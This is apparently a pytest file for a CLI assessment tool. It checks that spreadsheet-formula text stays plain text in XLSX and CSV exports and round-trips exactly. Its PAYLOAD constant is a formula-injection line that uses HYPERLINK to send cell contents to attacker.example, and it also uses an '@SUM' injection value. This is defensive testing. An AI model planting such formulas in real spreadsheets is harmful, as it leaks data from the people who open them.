"""User text never becomes a spreadsheet formula in our exports, and still round-trips exactly."""

from __future__ import annotations

import csv
import io
import json

from openpyxl import load_workbook
from typer.testing import CliRunner

from aismm_assistant.cli.main import app

PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


def run(*args):
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def test_formula_text_stays_text_in_xlsx_and_csv(tmp_path):
    aid = json.loads(run("assessment", "new", "--org", "Acme", "--json"))["id"]
    run("assessment", "set", aid, "GOV-02.1", "met", "--evidence", PAYLOAD, "--notes", "@SUM(1+1)", "--by", "priya")
    xlsx = tmp_path / "a.xlsx"
    run("assessment", "export", aid, "--format", "xlsx", "-o", str(xlsx))
    sheet = load_workbook(xlsx)["GOV"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[PAYLOAD].data_type == "s"  # text, not a formula
    again = json.loads(run("assessment", "import", str(xlsx), "--json"))["id"]
    shown = json.loads(run("assessment", "show", again, "--json"))
    gov = next(r for r in shown["results"] if r["control_id"] == "GOV-02.1")
    assert [e["text"] for e in gov["evidence"]] == [PAYLOAD]

    out = tmp_path / "a.csv"
    run("assessment", "export", aid, "--format", "csv", "-o", str(out))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    row = next(r for r in rows if r[1] == "GOV-02.1")
    assert row[-2] == "'" + PAYLOAD and row[-1] == "'@SUM(1+1)"
